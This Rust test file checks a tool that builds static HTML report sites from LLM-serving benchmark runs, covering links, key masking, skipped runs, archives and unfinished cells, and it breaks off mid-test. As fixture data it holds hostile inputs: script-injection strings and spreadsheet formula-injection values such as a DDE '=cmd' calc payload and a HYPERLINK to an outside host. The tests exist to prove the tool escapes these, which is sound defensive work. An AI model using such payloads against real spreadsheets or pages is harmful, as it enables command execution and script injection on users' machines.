//! `report build` end to end on fixture runs: files, links, escaping, skipped runs, archive.

use crate::support::{build, tiny_spec, try_build, write_run};
use report::fixture::{FixtureSpec, HOSTILE_DATASET, HOSTILE_MODEL, HOSTILE_RUN_ID};
use std::path::{Path, PathBuf};

fn read(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

#[test]
fn builds_every_page_with_relative_links_and_no_secrets() {
    let tmp = tempfile::tempdir().unwrap();
    let run = write_run(tmp.path(), "run-a", &FixtureSpec::small("run-a"));
    let site = tmp.path().join("site");
    let report = build(&[run], &site, None);
    assert_eq!(report.runs, 1);
    assert_eq!(
        report.pages,
        ["index.html", "gpu-a100.html", "gpu-h100.html"]
    );
    for f in [
        ".nojekyll",
        "data/turns.csv",
        "data/summary.csv",
        "assets/plotly-basic.min.js.LICENSE",
    ] {
        assert!(site.join(f).is_file(), "{f} missing");
    }
    let turns_csv = read(&site.join("data/turns.csv"));
    assert_eq!(
        turns_csv.lines().count() as u64,
        1 + FixtureSpec::small("x").record_count()
    );
    let summary_csv = read(&site.join("data/summary.csv"));
    assert_eq!(
        summary_csv.lines().count(),
        1 + 2 * 2 * 3,
        "one row per cell"
    );

    for page in &report.pages {
        let html = read(&site.join(page));
        assert!(
            html.contains("href=\"viewer.html\""),
            "{page}: no viewer link"
        );
        assert!(
            !html.contains("sk-fixture-secret"),
            "{page}: API key leaked"
        );
        assert!(
            html.contains("class=\"badge simulated\""),
            "{page}: no simulated badge"
        );
        assert!(
            html.contains("id=\"simulated-banner\""),
            "{page}: no simulated banner"
        );
        // Every src/href is relative and points at a file of the site (or a page of it).
        for attr in ["src=\"", "href=\""] {
            for part in html.split(attr).skip(1) {
                let target = &part[..part.find('"').unwrap()];
                assert!(
                    !target.contains("://") && !target.starts_with('/'),
                    "{page}: absolute link {target}"
                );
                if target != "viewer.html" && !target.starts_with('#') {
                    assert!(site.join(target).is_file(), "{page}: broken link {target}");
                }
            }
        }
        assert!(!html.contains("type=\"module\""), "{page}: ES module");
    }
    // The launch command is shown, with its key masked.
    assert!(read(&site.join("index.html")).contains("--api-key ***"));
}

#[test]
fn hostile_strings_render_as_text() {
    let tmp = tempfile::tempdir().unwrap();
    let mut spec = FixtureSpec::small(HOSTILE_RUN_ID);
    spec.hostile = true;
    spec.gpus = vec!["h100</script><i>x".into()];
    let run = write_run(tmp.path(), "hostile", &spec);
    let site = tmp.path().join("site");
    let report = build(&[run], &site, None);
    assert_eq!(report.pages, ["index.html", "gpu-h100__script__i_x.html"]);
    for page in &report.pages {
        let html = read(&site.join(page));
        for raw in [
            HOSTILE_MODEL,
            HOSTILE_DATASET,
            HOSTILE_RUN_ID,
            "</script><i>",
            "<script>alert",
            "<img src=x",
        ] {
            assert!(!html.contains(raw), "{page} contains raw {raw:?}");
        }
        // Exactly the page's own three script tags, each closed once.
        assert_eq!(html.matches("<script").count(), 3, "{page}");
        assert_eq!(html.matches("</script>").count(), 3, "{page}");
    }
    let index = read(&site.join("index.html"));
    assert!(
        index.contains("run&#60;/script&#62;&#60;b&#62;&#34;bold&#34;&#60;/b&#62;&#38;&#39;")
            || index.contains("run&lt;/script&gt;"),
        "run id not escaped as text"
    );
}

#[test]
fn one_bad_run_is_skipped_and_listed() {
    let tmp = tempfile::tempdir().unwrap();
    let good = write_run(tmp.path(), "good", &tiny_spec("good"));
    let bad = write_run(tmp.path(), "bad", &tiny_spec("bad"));
    let turns = bad.join("turns.jsonl");
    let mut text = read(&turns);
    let second = text.find('\n').unwrap() + 1;
    text.insert_str(second, "{\"gpu\": oops}\n");
    std::fs::write(&turns, text).unwrap();
    let site = tmp.path().join("site");
    let report = build(&[good, bad], &site, None);
    assert_eq!(report.runs, 1);
    assert_eq!(report.skipped.len(), 1);
    let reason = &report.skipped[0].reason;
    assert!(
        reason.contains("turns.jsonl:2:"),
        "reason names file and line: {reason}"
    );
    let index = read(&site.join("index.html"));
    assert!(index.contains("id=\"skipped\""));
    assert!(index.contains("turns.jsonl:2:"));
}

#[test]
fn refuses_to_replace_a_folder_that_is_not_a_site() {
    let tmp = tempfile::tempdir().unwrap();
    let run = write_run(tmp.path(), "r", &tiny_spec("r"));
    let out = tmp.path().join("precious");
    std::fs::create_dir_all(&out).unwrap();
    std::fs::write(out.join("notes.txt"), "keep me").unwrap();
    let err = try_build(std::slice::from_ref(&run), &out, None).unwrap_err();
    assert!(format!("{err:#}").contains("refusing"), "{err:#}");
    assert_eq!(read(&out.join("notes.txt")), "keep me");
    // A hand-made GitHub Pages folder has a .nojekyll too: it is no site of ours.
    let docs = tmp.path().join("docs");
    std::fs::create_dir_all(docs.join("guide")).unwrap();
    for (f, text) in [
        (".nojekyll", ""),
        ("index.md", "# docs"),
        ("CNAME", "example.com"),
    ] {
        std::fs::write(docs.join(f), text).unwrap();
    }
    std::fs::write(docs.join("guide/ch1.md"), "chapter").unwrap();
    let err = try_build(std::slice::from_ref(&run), &docs, None).unwrap_err();
    assert!(format!("{err:#}").contains("refusing"), "{err:#}");
    assert_eq!(read(&docs.join("guide/ch1.md")), "chapter");
    assert_eq!(read(&docs.join("CNAME")), "example.com");
    // A previous site is replaced.
    let site = tmp.path().join("site");
    build(std::slice::from_ref(&run), &site, None);
    std::fs::write(site.join("stale.html"), "old").unwrap();
    build(&[run], &site, None);
    assert!(!site.join("stale.html").exists());
}

#[test]
fn archive_is_reproducible() {
    let tmp = tempfile::tempdir().unwrap();
    let run = write_run(tmp.path(), "r", &tiny_spec("r"));
    let (a, b) = (tmp.path().join("a.tar.gz"), tmp.path().join("b.tar.gz"));
    build(
        std::slice::from_ref(&run),
        &tmp.path().join("site-a"),
        Some(&a),
    );
    std::thread::sleep(std::time::Duration::from_millis(1100));
    build(&[run], &tmp.path().join("site-b"), Some(&b));
    let (a, b) = (std::fs::read(a).unwrap(), std::fs::read(b).unwrap());
    assert!(a == b, "two builds gave different archives");
    let mut names: Vec<String> = tar::Archive::new(flate2::read::GzDecoder::new(a.as_slice()))
        .entries()
        .unwrap()
        .map(|e| e.unwrap().path().unwrap().display().to_string())
        .collect();
    assert!(names.contains(&"index.html".to_string()) && names.contains(&".nojekyll".to_string()));
    let sorted = {
        let mut s = names.clone();
        s.sort();
        s
    };
    assert_eq!(names, sorted);
    names.retain(|n| n.starts_with('/') || n.contains(".."));
    assert!(names.is_empty());
}

#[test]
fn the_archive_never_overwrites_what_is_not_an_archive() {
    let tmp = tempfile::tempdir().unwrap();
    let run = write_run(tmp.path(), "r", &tiny_spec("r"));
    let site = tmp.path().join("site");
    let build_to = |archive: &Path| try_build(std::slice::from_ref(&run), &site, Some(archive));
    // An unrelated file where the archive was to go is refused, and kept.
    let thesis = tmp.path().join("thesis.txt");
    std::fs::write(&thesis, "chapter one").unwrap();
    let err = build_to(&thesis).unwrap_err();
    assert!(
        format!("{err:#}").contains("not an archive of a site"),
        "{err:#}"
    );
    assert_eq!(std::fs::read_to_string(&thesis).unwrap(), "chapter one");
    // Nor is a run's bundle (maybe its only copy), and the refusal comes before the site is
    // built: `--out` is left as it was.
    let bundle = tmp.path().join("run-r.tar.gz");
    let mut tar = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::default(),
    ));
    let body = b"{}";
    let mut header = tar::Header::new_gnu();
    header.set_size(body.len() as u64);
    header.set_mode(0o644);
    header.set_cksum();
    tar.append_data(&mut header, "r/manifest.json", &body[..])
        .unwrap();
    let bytes = tar.into_inner().unwrap().finish().unwrap();
    std::fs::write(&bundle, &bytes).unwrap();
    let err = build_to(&bundle).unwrap_err();
    assert!(
        format!("{err:#}").contains("not an archive of a site"),
        "{err:#}"
    );
    assert_eq!(std::fs::read(&bundle).unwrap(), bytes);
    assert!(!site.exists(), "no site built before the refusal");
    // Files (or links to files) next to it that a staging name could collide with are kept.
    let notes = tmp.path().join("site-notes.tmp");
    std::fs::write(&notes, "notes").unwrap();
    let victim = tmp.path().join("victim.txt");
    std::fs::write(&victim, "config").unwrap();
    std::os::unix::fs::symlink(&victim, tmp.path().join("evil.tmp")).unwrap();
    for name in ["site-notes.gz", "evil.gz"] {
        build_to(&tmp.path().join(name)).unwrap();
        // Again, over its own earlier archive.
        build_to(&tmp.path().join(name)).unwrap();
    }
    assert_eq!(std::fs::read_to_string(&notes).unwrap(), "notes");
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "config");
}

#[test]
fn a_missing_input_is_an_error_naming_it() {
    let tmp = tempfile::tempdir().unwrap();
    let err = try_build(&[tmp.path().join("nope")], &tmp.path().join("site"), None).unwrap_err();
    let msg = format!("{err:#}");
    assert!(msg.contains("nope: no such file or directory"), "{msg}");
}

#[test]
fn a_summary_json_that_disagrees_with_the_records_is_flagged() {
    let tmp = tempfile::tempdir().unwrap();
    let run = write_run(tmp.path(), "r", &tiny_spec("r"));
    let site = tmp.path().join("site");
    build(std::slice::from_ref(&run), &site, None);
    let index = read(&site.join("index.html"));
    assert!(
        !index.contains("summary.json"),
        "the generated summary agrees with its records"
    );

    let path = run.join("summary.json");
    let mut summary: serde_json::Value = serde_json::from_str(&read(&path)).unwrap();
    summary["cells"][1]["total_output_tokens"] = 12345.into();
    std::fs::write(&path, summary.to_string()).unwrap();
    build(std::slice::from_ref(&run), &site, None);
    let index = read(&site.join("index.html"));
    assert!(
        index.contains("h100 prefix c=2: summary.json vs turns.jsonl: total tokens 12345 vs 1795"),
        "mismatch not reported"
    );
}

/// Past `csv_part_rows` records the turns CSV is split into `data/turns-NNN.csv` parts (each
/// with the header, in record order, across runs), all linked from the index; their rows are
/// exactly the single-file export's.
#[test]
fn turns_csv_splits_into_linked_parts() {
    use report::data::turns_csv_files;
    assert_eq!(turns_csv_files(0, 10), ["data/turns.csv"]);
    assert_eq!(turns_csv_files(10, 10), ["data/turns.csv"]);
    assert_eq!(
        turns_csv_files(11, 10),
        ["data/turns-000.csv", "data/turns-001.csv"]
    );
    assert_eq!(turns_csv_files(1_000_000, 250_000).len(), 4);

    let tmp = tempfile::tempdir().unwrap();
    let runs = [
        write_run(tmp.path(), "run-a", &tiny_spec("run-a")),
        write_run(tmp.path(), "run-b", &tiny_spec("run-b")),
    ];
    let rows = 2 * tiny_spec("x").record_count() as usize;
    let part_rows = rows / 3 + 1; // three parts, the last one shorter
    let whole = tmp.path().join("whole");
    build(&runs, &whole, None);
    let split = tmp.path().join("split");
    report::site::build(&report::site::BuildOptions {
        inputs: runs.to_vec(),
        out: split.clone(),
        archive: None,
        title: "turnbench test".into(),
        dump_contexts: false,
        csv_part_rows: part_rows,
    })
    .unwrap();

    let whole_csv = read(&whole.join("data/turns.csv"));
    let (header, whole_rows) = whole_csv.split_once('\n').unwrap();
    assert_eq!(whole_rows.lines().count(), rows);
    assert!(!split.join("data/turns.csv").exists());
    let parts = [
        "data/turns-000.csv",
        "data/turns-001.csv",
        "data/turns-002.csv",
    ];
    assert!(!split.join("data/turns-003.csv").exists());
    let mut joined = String::new();
    for (i, part) in parts.iter().enumerate() {
        let text = read(&split.join(part));
        let (h, body) = text.split_once('\n').unwrap();
        assert_eq!(h, header, "{part}: header");
        let n = body.lines().count();
        assert!(n <= part_rows, "{part}: {n} rows");
        if i < parts.len() - 1 {
            assert_eq!(n, part_rows, "{part}: only the last part is short");
        }
        joined.push_str(body);
    }
    assert_eq!(joined, whole_rows);

    // The index links every part (in order) and the summary; the single-file site links
    // turns.csv.
    let links = |site: &Path| -> Vec<String> {
        let html = read(&site.join("index.html"));
        let li = html.split("id=\"data-links\"").nth(1).unwrap();
        let li = &li[..li.find("</li>").unwrap()];
        li.split("href=\"")
            .skip(1)
            .map(|s| s[..s.find('"').unwrap()].to_string())
            .collect()
    };
    let mut want: Vec<String> = parts.iter().map(|p| p.to_string()).collect();
    want.push("data/summary.csv".into());
    assert_eq!(links(&split), want);
    assert_eq!(links(&whole), ["data/turns.csv", "data/summary.csv"]);
}

#[test]
fn a_cell_an_interrupted_run_left_part_way_is_flagged_and_never_best() {
    let tmp = tempfile::tempdir().unwrap();
    let run = write_run(tmp.path(), "cut", &tiny_spec("cut"));
    // Killed while trajectory 0 of prefix c=2 was on its last turn: that line is missing,
    // and no summary.json was written.
    let turns_path = run.join("turns.jsonl");
    let text = std::fs::read_to_string(&turns_path).unwrap();
    let kept: Vec<&str> = text
        .lines()
        .filter(|l| {
            let r: turnbench_schema::TurnRecord = serde_json::from_str(l).unwrap();
            !(r.cache_mode == turnbench_schema::CacheMode::Prefix
                && r.concurrency == 2
                && r.traj == 0
                && r.turn == 2)
        })
        .collect();
    assert_eq!(kept.len() + 1, text.lines().count());
    std::fs::write(&turns_path, kept.join("\n") + "\n").unwrap();
    std::fs::remove_file(run.join("summary.json")).unwrap();
    let site = tmp.path().join("site");
    build(std::slice::from_ref(&run), &site, None);
    let page = std::fs::read_to_string(site.join("gpu-h100.html")).unwrap();
    assert!(
        page.contains("Unfinished run: prefix at concurrency 2 finished 2 of 3 trajectories"),
        "the cut cell is named"
    );
    // The index says so too, with the way to finish it.
    let index = read(&site.join("index.html"));
    assert!(
        index.contains("Unfinished run: cells of GPU h100 did not finish")
            && index.contains("runner sweep --resume cut"),
        "{index}"
    );
    // Its figures (shorter, so faster-looking) are never the best configuration.
    let loaded = report::load::load_dir(&run).unwrap();
    let agg = report::aggregate::aggregate(&loaded);
    let cut = agg
        .cells
        .iter()
        .map(|c| &c.summary)
        .find(|c| c.cache_mode == turnbench_schema::CacheMode::Prefix && c.concurrency == 2)
        .unwrap();
    assert_eq!(cut.complete, Some(false));
    assert_eq!(
        cut.trajectories_ok, 2,
        "the cut trajectory is not a success"
    );
    assert!(agg.best.iter().all(
        |b| !(b.best_cache_mode == turnbench_schema::CacheMode::Prefix && b.best_concurrency == 2)
    ));
    assert!(agg
        .cells
        .iter()
        .filter(|c| c.summary.concurrency != 2 || c.summary.cache_mode != cut.cache_mode)
        .all(|c| c.summary.complete == Some(true)));

    // Its rows are marked, and it is not compared: no speed-up against it, no point of it in
    // the charts that compare cells (here and on the index).
    let prefix_table = &page[page.find("data-cache-mode=\"prefix\"").unwrap()..];
    let prefix_table = &prefix_table[..prefix_table.find("</table>").unwrap()];
    assert!(
        prefix_table.contains(
            "<td data-col=\"concurrency\">2 <span class=\"badge partial\">unfinished</span>"
        ),
        "{prefix_table}"
    );
    assert!(!prefix_table.contains("1 <span class=\"badge partial\">"));
    // Its traces in the charts of one cache mode say so (the other cells' do not).
    assert!(
        page.contains("c=2 (unfinished)"),
        "chart legends name the cut cell"
    );
    assert!(!page.contains("c=1 (unfinished)"));
    // The spreadsheet export says so too, for that cell alone.
    let csv = read(&site.join("data/summary.csv"));
    let mut lines = csv.lines();
    let head: Vec<&str> = lines.next().unwrap().split(',').collect();
    let col = |name: &str| head.iter().position(|h| *h == name).unwrap();
    for line in lines {
        let f: Vec<&str> = line.split(',').collect();
        let cut_cell = f[col("cache_mode")] == "prefix" && f[col("concurrency")] == "2";
        assert_eq!(
            f[col("partial")],
            if cut_cell { "unfinished" } else { "" },
            "{line}"
        );
        assert_eq!(f[col("zero_cost")], "false");
    }
    let index = read(&site.join("index.html"));
    let table = &index[index.find("<table id=\"speedup\">").unwrap()..];
    let table = &table[..table.find("</table>").unwrap()];
    let rows: Vec<&str> = table.split("<tr>").skip(2).collect();
    assert_eq!(rows.len(), 2, "{table}");
    let row_of = |c: &str| {
        *rows
            .iter()
            .find(|r| r.contains(&format!("<td>{c}</td><td class=\"text\">none</td>")))
            .unwrap()
    };
    assert!(row_of("2").contains("<td>—</td>"), "{table}");
    assert!(!row_of("1").contains("—"), "{table}");
    let runs = vec![report::load::Run {
        source: "cut".into(),
        data: report::load::RunData::Measured(Box::new(loaded)),
    }];
    let gpus = report::pages::gpu_links(&runs);
    let s = report::pages::site("t", &runs, &[Some(agg)], gpus, &[], 1000);
    let charts = s
        .index
        .charts
        .iter()
        .chain(&s.gpu_pages[0].sections[0].charts);
    let mut compared = 0;
    for chart in charts {
        if !(chart.title.contains("vs concurrency")
            || chart.title.contains("speed-up")
            || chart.title.contains(" vs "))
        {
            continue;
        }
        for trace in &chart.data {
            let name = trace["name"].as_str().unwrap_or_default();
            if !name.starts_with("prefix") {
                continue;
            }
            compared += 1;
            // Concurrency is the x of a line against concurrency, `c=N` in the x of the
            // speed-up bars and in the labels of a throughput-vs-latency line.
            let values = |k: &str| trace[k].as_array().cloned().unwrap_or_default();
            let mut points: Vec<String> = values("x")
                .iter()
                .chain(&values("text"))
                .filter_map(|v| v.as_str().map(str::to_string))
                .collect();
            if chart.title.contains("vs concurrency") {
                points.extend(
                    values("x")
                        .iter()
                        .filter_map(|v| v.as_f64())
                        .map(|x| format!("c={x}")),
                );
            }
            assert!(
                !points.iter().any(|p| p == "c=2"),
                "{}: {name} {points:?}",
                chart.title
            );
            assert!(
                points.iter().any(|p| p == "c=1"),
                "{}: {name} {points:?}",
                chart.title
            );
        }
    }
    assert!(compared >= 3, "{compared}");
}

#[test]
fn the_speedup_table_keeps_each_mode_in_its_column_across_runs() {
    let tmp = tempfile::tempdir().unwrap();
    let a = write_run(tmp.path(), "a", &tiny_spec("two-modes")); // prefix, none
    let mut spec = tiny_spec("three-modes");
    spec.modes = vec![
        turnbench_schema::CacheMode::Prefix,
        turnbench_schema::CacheMode::Session,
        turnbench_schema::CacheMode::None,
    ];
    let b = write_run(tmp.path(), "b", &spec);
    let site = tmp.path().join("site");
    build(&[a, b.clone()], &site, None);
    let index = read(&site.join("index.html"));
    let table = &index[index.find("<table id=\"speedup\">").unwrap()..];
    let table = &table[..table.find("</table>").unwrap()];
    let head = &table[..table.find("</thead>").unwrap()];
    assert!(head.contains(
        "<th>prefix tok/s (× by tok/s · × by traj/s)</th>\
         <th>session tok/s (× by tok/s · × by traj/s)</th>\
         <th>none tok/s (× by tok/s · × by traj/s)</th>"
    ));
    let summary: turnbench_schema::Summary =
        serde_json::from_str(&read(&b.join("summary.json"))).unwrap();
    let columns = head.matches("<th>").count() + head.matches("<th ").count();
    let mut rows = 0;
    for row in table.split("<tr>").skip(2) {
        assert_eq!(row.matches("<td").count(), columns, "{row}");
        if row.contains("two-modes") {
            // Its session cell is a dash; none (its baseline) is ×1.00 in the last column.
            let cells: Vec<&str> = row.split("<td>").collect();
            assert!(cells[cells.len() - 2].starts_with("—</td>"), "{row}");
            assert!(cells[cells.len() - 1].contains("(×1.00 · ×1.00)"), "{row}");
        }
        if row.contains("three-modes") {
            // Each mode's speed-up over none at this GPU and concurrency, by tokens and by
            // trajectories, as the run's own summary gives them.
            let cells: Vec<&str> = row
                .split("<td>")
                .map(|c| c.split("</td>").next().unwrap())
                .collect();
            let n = cells.len();
            let gpu = cells[1];
            let c: u32 = cells[2].parse().unwrap();
            let cell = |m| {
                summary
                    .cells
                    .iter()
                    .find(|x| x.gpu == gpu && x.cache_mode == m && x.concurrency == c)
                    .unwrap()
            };
            let base = cell(turnbench_schema::CacheMode::None);
            for (text, mode) in [
                (cells[n - 3], turnbench_schema::CacheMode::Prefix),
                (cells[n - 2], turnbench_schema::CacheMode::Session),
            ] {
                let x = cell(mode);
                let want = format!(
                    "(×{:.2} · ×{:.2})",
                    x.output_tok_per_s / base.output_tok_per_s,
                    x.traj_per_s / base.traj_per_s
                );
                assert!(text.ends_with(&want), "{text} ≠ {want}");
            }
        }
        rows += 1;
    }
    assert!(rows >= 4, "{table}");
}

#[test]
fn cells_a_resumed_run_finished_are_named() {
    let tmp = tempfile::tempdir().unwrap();
    let run = write_run(tmp.path(), "res", &tiny_spec("res"));
    // Trajectory 1 of none c=1 was cut and re-run by --resume: its lines are attempt 1.
    let turns_path = run.join("turns.jsonl");
    let text = std::fs::read_to_string(&turns_path).unwrap();
    let lines: Vec<String> = text
        .lines()
        .map(|l| {
            let mut r: turnbench_schema::TurnRecord = serde_json::from_str(l).unwrap();
            if r.cache_mode == turnbench_schema::CacheMode::None
                && r.concurrency == 1
                && r.traj == 1
            {
                r.attempt = 1;
            }
            serde_json::to_string(&r).unwrap()
        })
        .collect();
    std::fs::write(&turns_path, lines.join("\n") + "\n").unwrap();
    let site = tmp.path().join("site");
    build(std::slice::from_ref(&run), &site, None);
    let page = read(&site.join("gpu-h100.html"));
    assert!(page.contains("Resumed in parts: none at concurrency 1 ran in two parts"));
    assert!(!page.contains("prefix at concurrency 1 ran in two parts"));
    assert!(
        !page.contains("Unfinished run"),
        "every trajectory finished"
    );
    assert!(!read(&site.join("index.html")).contains("Unfinished run"));

    // A cell a resume ran again from its start: every line under attempt 1.
    let lines: Vec<String> = std::fs::read_to_string(&turns_path)
        .unwrap()
        .lines()
        .map(|l| {
            let mut r: turnbench_schema::TurnRecord = serde_json::from_str(l).unwrap();
            if r.cache_mode == turnbench_schema::CacheMode::None && r.concurrency == 1 {
                r.attempt = 1;
            }
            serde_json::to_string(&r).unwrap()
        })
        .collect();
    std::fs::write(&turns_path, lines.join("\n") + "\n").unwrap();
    build(std::slice::from_ref(&run), &site, None);
    let page = read(&site.join("gpu-h100.html"));
    assert!(page.contains("Re-run: none at concurrency 1 was stopped part-way"));
    assert!(!page.contains("Resumed in parts"));
}

#[test]
fn the_index_says_when_a_best_cell_had_failed_turns() {
    let tmp = tempfile::tempdir().unwrap();
    let mut spec = tiny_spec("faulty");
    spec.error_rate = 0.25;
    spec.trajectories = 6;
    let run = write_run(tmp.path(), "faulty", &spec);
    let site = tmp.path().join("site");
    build(std::slice::from_ref(&run), &site, None);
    let agg = report::aggregate::aggregate(&report::load::load_dir(&run).unwrap());
    let cell_of = |criterion: &str| {
        let b = agg
            .best
            .iter()
            .find(|b| b.cache_mode.is_none() && b.criterion == criterion)
            .unwrap();
        agg.cells
            .iter()
            .map(|c| &c.summary)
            .find(|c| c.cache_mode == b.best_cache_mode && c.concurrency == b.best_concurrency)
            .unwrap()
    };
    let failed_of = |criterion: &str| cell_of(criterion).failed_turns;
    let index = read(&site.join("index.html"));
    let table = &index[index.find("<table id=\"best\">").unwrap()..];
    let table = &table[..table.find("</table>").unwrap()];
    assert!(table.contains("<th>Failed turns</th>"), "{table}");
    let row = table.split("<tr>").nth(2).unwrap();
    let cells: Vec<&str> = row.split("<td").collect();
    // GPU, run, mode, concurrency, tok/s, next best, traj/s, avg/traj, failed turns, retracted
    // turns, best by traj/s, …
    assert!(
        cells[9].starts_with(&format!(">{}<", failed_of("output_tok_per_s"))),
        "{row}"
    );
    let best = cell_of("output_tok_per_s");
    let retracted = best.retracted_turns.unwrap();
    assert!(
        cells[10].starts_with(&format!(
            ">{retracted} ({:.1} %)<",
            retracted as f64 / best.turns as f64 * 100.0
        )),
        "{row}"
    );
    for (criterion, cell) in [("traj_per_s", cells[11]), ("avg_traj_time_s", cells[12])] {
        let n = failed_of(criterion);
        assert_eq!(
            cell.contains("failed turn"),
            n > 0,
            "{criterion}: {n} failed: {row}"
        );
        if n > 1 {
            assert!(cell.contains(&format!(", {n} failed turns<")), "{row}");
        }
    }
    assert!(
        failed_of("output_tok_per_s") > 0 || failed_of("avg_traj_time_s") > 0,
        "the fixture's best cells had failures: {row}"
    );
}

#[test]
fn csv_cells_a_spreadsheet_would_run_as_formulas_are_written_as_text() {
    let tmp = tempfile::tempdir().unwrap();
    let run = write_run(tmp.path(), "f", &tiny_spec("=1+1"));
    // A dataset's trajectory ids and a server's error as a hostile source would write them.
    let ids = [
        "=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")",
        "@SUM(1+1)",
        "-2+3",
        "plain-id",
    ];
    edit_turns(&run, |_, r| {
        r.traj_id = ids[r.traj as usize].to_string();
        if r.traj == 1 {
            r.error = Some("=cmd|' /C calc'!A0".into());
        }
    });
    let site = tmp.path().join("site");
    build(std::slice::from_ref(&run), &site, None);
    for file in ["data/turns.csv", "data/summary.csv"] {
        let mut csv = csv::Reader::from_path(site.join(file)).unwrap();
        let mut rows = 0;
        for row in csv.records() {
            let row = row.unwrap();
            for cell in row.iter() {
                assert!(
                    !(cell.starts_with(['=', '+', '@', '\t', '\r'])
                        || (cell.starts_with('-') && cell.parse::<f64>().is_err())),
                    "{file}: {cell:?} in {row:?}"
                );
            }
            assert_eq!(&row[0], "'=1+1", "{file}: the run id, as text");
            rows += 1;
        }
        assert!(rows > 0);
    }
    let turns = read(&site.join("data/turns.csv"));
    // (The fixture has three trajectories.)
    for id in &ids[..3] {
        assert!(
            turns.contains(&format!("'{}", id.replace('"', "\"\""))),
            "{id:?}"
        );
    }
    assert!(turns.contains("'=cmd|"));
    assert!(
        turns.contains(",h100,prefix,"),
        "other text is left as it is"
    );
}

#[test]
fn token_counts_past_u64_build_a_site_without_wrapping_or_panicking() {
    let tmp = tempfile::tempdir().unwrap();
    let run = write_run(tmp.path(), "big", &tiny_spec("big"));
    edit_turns(&run, |i, r| {
        if i < 3 {
            r.prompt_tokens = Some(u64::MAX);
            r.cached_tokens = Some(u64::MAX);
            r.completion_tokens = Some(u64::MAX);
        }
    });
    let site = tmp.path().join("site");
    build(std::slice::from_ref(&run), &site, None);
    let summary = read(&site.join("data/summary.csv"));
    // The total saturates at u64::MAX, not a small wrapped sum.
    assert!(summary.contains(&format!(",{},", u64::MAX)), "{summary}");
}

#[test]
fn a_build_never_overwrites_its_own_inputs() {
    let tmp = tempfile::tempdir().unwrap();
    let run = write_run(tmp.path(), "keep", &tiny_spec("keep"));
    let turns = std::fs::read(run.join("turns.jsonl")).unwrap();
    let site = tmp.path().join("site");
    let try_build =
        |inputs: &[PathBuf], out: &Path, archive: Option<&Path>| try_build(inputs, out, archive);
    // The archive may not be an input, nor a file in one, nor inside the site.
    for archive in [run.join("turns.jsonl"), run.clone(), site.join("s.tar.gz")] {
        let err = try_build(std::slice::from_ref(&run), &site, Some(&archive))
            .unwrap_err()
            .to_string();
        assert!(err.contains("--archive"), "{err}");
    }
    // A bundle given as input and as the archive.
    let bundle = tmp.path().join("keep.tar.gz");
    std::fs::write(&bundle, b"not really a bundle").unwrap();
    let err = try_build(std::slice::from_ref(&bundle), &site, Some(&bundle))
        .unwrap_err()
        .to_string();
    assert!(err.contains("would overwrite the input"), "{err}");
    assert_eq!(std::fs::read(&bundle).unwrap(), b"not really a bundle");
    // An input inside the site the build replaces (also through `..`).
    build(std::slice::from_ref(&run), &site, None);
    let inside = site.join("results").join("keep");
    std::fs::create_dir_all(site.join("results")).unwrap();
    copy_dir(&run, &inside);
    let err = try_build(&[site.join("x/../results/keep")], &site, None)
        .unwrap_err()
        .to_string();
    assert!(err.contains("inside the output site"), "{err}");
    assert!(
        inside.join("turns.jsonl").is_file(),
        "the input is still there"
    );
    assert_eq!(std::fs::read(run.join("turns.jsonl")).unwrap(), turns);
    // Elsewhere, the archive is written.
    let ok = tmp.path().join("site.tar.gz");
    try_build(
        std::slice::from_ref(&run),
        &tmp.path().join("site2"),
        Some(&ok),
    )
    .unwrap();
    assert!(ok.is_file());
}

/// Rewrite a run's `turns.jsonl` record by record (index in the file, record).
fn edit_turns(run: &Path, mut edit: impl FnMut(usize, &mut turnbench_schema::TurnRecord)) {
    let path = run.join("turns.jsonl");
    let lines: Vec<String> = std::fs::read_to_string(&path)
        .unwrap()
        .lines()
        .enumerate()
        .map(|(i, l)| {
            let mut r: turnbench_schema::TurnRecord = serde_json::from_str(l).unwrap();
            edit(i, &mut r);
            serde_json::to_string(&r).unwrap()
        })
        .collect();
    std::fs::write(&path, lines.join("\n") + "\n").unwrap();
}

fn copy_dir(from: &Path, to: &Path) {
    std::fs::create_dir_all(to).unwrap();
    for e in std::fs::read_dir(from).unwrap() {
        let e = e.unwrap();
        if e.file_type().unwrap().is_dir() {
            copy_dir(&e.path(), &to.join(e.file_name()));
        } else {
            std::fs::copy(e.path(), to.join(e.file_name())).unwrap();
        }
    }
}

#[test]
fn records_no_measurement_gives_are_pointed_out() {
    let tmp = tempfile::tempdir().unwrap();
    let run = write_run(tmp.path(), "odd", &tiny_spec("odd"));
    let site = tmp.path().join("site");
    build(std::slice::from_ref(&run), &site, None);
    assert!(!read(&site.join("index.html")).contains("Implausible"));
    edit_turns(&run, |i, r| match i {
        0 | 1 => r.cached_tokens = r.prompt_tokens.map(|p| p * 3),
        2 => r.ttft = r.e2e.map(|e| e * 5.0),
        _ => {}
    });
    build(std::slice::from_ref(&run), &site, None);
    let index = read(&site.join("index.html"));
    assert!(
        index.contains("Implausible records in turns.jsonl (more cached than prompt tokens in 2; a TTFT longer than the E2E latency in 1)"),
        "{index}"
    );
}

#[test]
fn a_run_with_no_engine_cost_is_marked_on_every_page() {
    let tmp = tempfile::tempdir().unwrap();
    let run = write_run(tmp.path(), "inf", &tiny_spec("inf"));
    let path = run.join("manifest.json");
    let mut m: serde_json::Value = serde_json::from_str(&read(&path)).unwrap();
    m["backend"]["sim"]["time_scale"] = 1.0.into();
    m["backend"]["sim"]["zero_cost"] = true.into();
    std::fs::write(&path, m.to_string()).unwrap();
    let site = tmp.path().join("site");
    build(std::slice::from_ref(&run), &site, None);
    let index = read(&site.join("index.html"));
    assert!(index.contains("time scale ∞"), "{index}");
    for page in [index, read(&site.join("gpu-h100.html"))] {
        assert!(page.contains("No engine cost"), "{page}");
    }
    let viewer = read(&site.join("viewer.html"));
    assert!(
        viewer.contains("Run inf: no engine cost (--sim-time-scale inf)"),
        "{viewer}"
    );
    // Its times are the harness's milliseconds: the seed's tables give them to the
    // ten-thousandth of a second, where an engine's seconds take two decimals.
    let decimals = |page: &str| -> Vec<usize> {
        page.split("<td data-col=\"total_time\">")
            .skip(1)
            .chain(page.split("<td data-col=\"avg_traj\">").skip(1))
            .map(|c| {
                c[..c.find("</td>").unwrap()]
                    .split('.')
                    .nth(1)
                    .unwrap()
                    .len()
            })
            .collect()
    };
    let inf_page = read(&site.join("gpu-h100.html"));
